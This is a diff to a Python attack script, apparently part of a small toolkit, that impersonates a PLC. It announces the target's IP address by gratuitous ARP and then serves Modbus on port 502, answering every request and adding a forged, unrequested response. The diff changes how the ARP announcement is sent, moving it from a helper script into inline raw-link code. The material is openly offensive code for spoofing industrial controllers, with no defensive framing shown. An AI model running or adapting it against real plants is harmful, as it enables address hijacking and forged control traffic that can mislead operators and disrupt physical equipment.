@@ -1,12 +1,13 @@
 """A false PLC: gives every request an answer, and another one that nobody asked for.
 
-    attack_answers.py ADDRESS
+attack_answers.py ADDRESS
 """
 
 import asyncio
 import struct
-import subprocess
 import sys
+
+from rawlink import arp, link, own_mac
 
 
 def answer(transaction: int, unit: int, function: int, count: int, value: int) -> bytes:
@@ -34,8 +35,7 @@ async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> N
 
 
 async def main() -> None:
-    # Says to everyone that the address is here now (gratuitous ARP).
-    subprocess.run([sys.executable, __file__.replace("attack_answers", "attack_arp"), "announce", sys.argv[1]], check=True)
+    link().send(arp(1, (own_mac(), sys.argv[1]), (bytes(6), sys.argv[1])))  # the address is here now
     server = await asyncio.start_server(serve, sys.argv[1], 502)
     await server.serve_forever()
 
